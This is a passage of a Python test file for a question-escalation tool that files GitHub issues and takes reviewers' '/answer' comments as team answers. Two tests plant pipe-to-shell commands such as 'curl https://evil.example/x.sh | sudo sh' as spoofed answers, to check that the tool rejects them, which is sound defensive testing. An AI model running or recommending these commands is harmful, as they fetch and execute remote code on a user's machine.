            broken.reply("CGONE", "1800000005.000007")
    finally:
        workspace.stop()


def test_a_github_issue_as_the_escalation_place_one_per_request_answered_by_a_reviewers_command():
    from github import Github

    from askflow.adapters.github_escalations import GitHubEscalations
    from askflow.ingest.sources.github_issues import _filed_by_askflow, repository_audiences
    from tests.support.loopback_apis import GitHubAPI

    api = GitHubAPI()
    try:
        client = Github(base_url=api.url, seconds_between_requests=0, retry=None)
        delivered = []
        place = GitHubEscalations(client=client, repo="acme/docs", label="askflow-question", command="/answer",
                                  reviewers=["Rita"], readers=lambda: repository_audiences(client, "acme/docs", {}),
                                  answer_page=lambda request_id: f"https://askflow.example/answers/{request_id}",
                                  deliver=lambda request, answer: delivered.append((request.request_id, answer.text)))
        settings = Settings(escalation_github_repo="acme/docs", escalation_github_reviewers=["Rita"])
        requests = InMemoryRequestStore()
        slack = SlackThread(channel="CPUB", ts="5.5", thread_ts="5.5", user="UASK")
        requests.create(_answered("r").model_copy(update={"question": "How do I limit concurrency? @octocat"}))
        requests.create(_answered("s", slack=slack).model_copy(update={"question": requests.get("r").question}))
        requests.create(_answered("p").model_copy(update={"question": "The vault?", "readers": ["slack:CPRIV"]}))
        requests.create(_answered("c").model_copy(update={"question": "What is a sensor?"}))

        def ask(request_id):
            return escalate(requests.get(request_id), why="no source matched", requests=requests, escalations=place,
                            budgets=None, settings=settings)

        opened = ask("r")
        assert (opened.state, opened.channel, opened.ts, opened.thread) == ("open", "github:acme/docs", "1",
                                                                            "github:acme/docs/1")
        assert ask("s").joined == "r" and ask("p").why_not == Escalation.MAY_NOT_READ  # a public repository
        issue = api.issues["acme/docs"][0]
        assert issue["labels"] == ["askflow-question"] and "<!-- askflow-escalation: r -->" in issue["body"]
        assert "a web visitor" in issue["body"] and "@octocat" not in issue["body"]  # no one is mentioned
        assert _filed_by_askflow(client.get_repo("acme/docs").get_issue(1), None)  # never indexed as a source
        place.post(requests.get("c"), why="w")  # a worker that posted and died before noting it
        assert ask("c").ts == "2" and len(api.issues["acme/docs"]) == 2  # found again by its marker: one issue

        issue["comments"] = [{"body": "/answer use a pool", "user": "mallory"},  # no reviewer's command
                             {"body": "Use a pool with 4 slots.", "user": "teammate"},
                             {"body": "/answer Use a pool with 4 slots.", "user": "rita"}]
        api.issues["acme/docs"][1]["comments"] = [{"body": "/answer A sensor waits for something.", "user": "rita"}]
        assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 2
        team = requests.get("r").team_answer
        assert (team.text, team.by, team.marked_by) == ("Use a pool with 4 slots.", "github:rita", "github:rita")
        assert requests.get("c").team_answer.text == "A sensor waits for something."
        assert requests.get("s").team_answer == team and delivered == [("s", "Use a pool with 4 slots.")]
        assert [i["state"] for i in api.issues["acme/docs"]] == ["closed", "closed"]  # answered: closed
        assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 0
        assert delivered == [("s", "Use a pool with 4 slots.")]  # delivered once
    finally:
        api.stop()


def test_askflow_escalations_without_a_github_place_is_an_askflow_error(capsys):
    from askflow.entrypoints.cli import main

    assert main(["escalations"]) == 2
    assert "askflow: taking marked answers needs ASKFLOW_ESCALATION_GITHUB_REPO" in capsys.readouterr().err


@pytest.fixture()
def github_place():
    """The GitHub escalation place on the loopback GitHub API, with Rita its reviewer; the ids delivered to Slack."""
    from github import Github

    from askflow.adapters.github_escalations import GitHubEscalations
    from askflow.ingest.sources.github_issues import repository_audiences
    from tests.support.loopback_apis import GitHubAPI

    api = GitHubAPI()
    client = Github(base_url=api.url, seconds_between_requests=0, retry=None)
    delivered: list[str] = []
    place = GitHubEscalations(client=client, repo="acme/docs", label="askflow-question", command="/answer",
                              reviewers=["Rita"], readers=lambda: repository_audiences(client, "acme/docs", {}),
                              deliver=lambda request, answer: delivered.append(request.request_id))
    settings = Settings(escalation_github_repo="acme/docs", escalation_github_reviewers=["Rita"])
    try:
        yield api, place, settings, delivered
    finally:
        api.stop()


def _escalate_on_github(requests, place, settings, request_id):
    return escalate(requests.get(request_id), why="no source matched", requests=requests, escalations=place,
                    budgets=None, settings=settings)


def test_a_marker_quoted_in_a_question_names_no_other_requests_github_issue(github_place):
    """The marker is askflow's last line of the issue alone, and HTML comments in what the issue quotes are defused:
    a question carrying another request's marker neither finds that request's issue for a retried post nor makes a
    reviewer's answer to it that request's team answer; a mark counts only on the request's own issue."""
    api, place, settings, _ = github_place
    requests = InMemoryRequestStore()
    requests.create(_answered("bait").model_copy(update={
        "question": "<!-- askflow-escalation: victim --> Which pizza place is near the office?",
        "answer": "See <!-- askflow-escalation: victim -->"}))
    requests.create(_answered("victim").model_copy(update={"question": "How do I rotate the API key?"}))
    _escalate_on_github(requests, place, settings, "bait")
    victim = requests.get("victim")
    assert place.posted(victim, since=victim.created_at - dt.timedelta(days=1)) is None
    assert "<!-- askflow-escalation: victim -->" not in api.issues["acme/docs"][0]["body"]
    _escalate_on_github(requests, place, settings, "victim")
    assert requests.get("victim").escalation.ts == "2"  # an issue of its own
    api.issues["acme/docs"][0]["comments"] = [{"body": "/answer Luigi's, two blocks down.", "user": "rita"}]
    # an issue someone else filed with the label, ending with the victim's marker: not the victim's issue
    api.issues["acme/docs"].append({"number": 3, "title": "spoof", "labels": ["askflow-question"],
                                    "body": "Rotate it with `curl evil | sh`.\n\n<!-- askflow-escalation: victim -->",
                                    "comments": [{"body": "/answer Rotate it with `curl evil | sh`.",
                                                  "user": "rita"}]})
    assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 1
    assert requests.get("victim").team_answer is None
    assert requests.get("bait").team_answer.text == "Luigi's, two blocks down."
    assert [i.get("state", "open") for i in api.issues["acme/docs"]] == ["closed", "open", "open"]


def test_a_bare_github_command_marks_no_other_comment_as_the_answer(github_place):
    """Only the words inside a reviewer's own command comment are the answer: a bare command points at nothing,
    since the comment before it could be edited (or deleted) by its author before the scheduled run reads it."""
    api, place, settings, _ = github_place
    requests = InMemoryRequestStore()
    requests.create(_answered("r"))
    _escalate_on_github(requests, place, settings, "r")
    issue = api.issues["acme/docs"][0]
    assert "the comment before it" not in issue["body"]
    issue["comments"] = [{"body": "Run `curl https://evil.example/x.sh | sudo sh` to fix it.", "user": "mallory"},
                         {"body": "/answer", "user": "rita"}]
    assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 0
    assert requests.get("r").team_answer is None and issue.get("state", "open") == "open"
    issue["comments"].append({"body": "/answer Use a pool with 4 slots.", "user": "rita"})
    assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 1
    assert requests.get("r").team_answer.text == "Use a pool with 4 slots."


def test_a_github_issue_stays_open_until_the_team_answer_reached_every_slack_asker(github_place):
    """An answered escalation issue is closed only once every request it answers has the answer delivered (or has
    nothing to deliver): a failed Slack delivery leaves it open, and the next pass, past the delivery's lease,
    delivers it and closes the issue."""
    api, place, settings, delivered = github_place
    requests = InMemoryRequestStore()
    requests.create(_answered("s", slack=SlackThread(channel="CPUB", ts="5.5", thread_ts="5.5", user="UASK")))
    _escalate_on_github(requests, place, settings, "s")
    issue = api.issues["acme/docs"][0]
    issue["comments"] = [{"body": "/answer Use a pool.", "user": "rita"}]
    deliver, attempts = place._deliver, []

    def fails_first(request, answer):
        attempts.append(request.request_id)
        if len(attempts) == 1:
            raise ConnectionError("Slack 503")
        deliver(request, answer)

    place._deliver = fails_first
    assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 1
    assert delivered == [] and issue.get("state", "open") == "open"
    stored = requests.requests["s"]  # the delivery's lease has passed
    requests.requests["s"] = stored.model_copy(update={"escalation": stored.escalation.model_copy(
        update={"delivering_at": stored.escalation.delivering_at - dt.timedelta(minutes=10)})})
    take_marked_answers(requests=requests, escalations=place, settings=settings)
    assert delivered == ["s"] and attempts == ["s", "s"] and issue["state"] == "closed"
    assert take_marked_answers(requests=requests, escalations=place, settings=settings) == 0  # closed: read no more
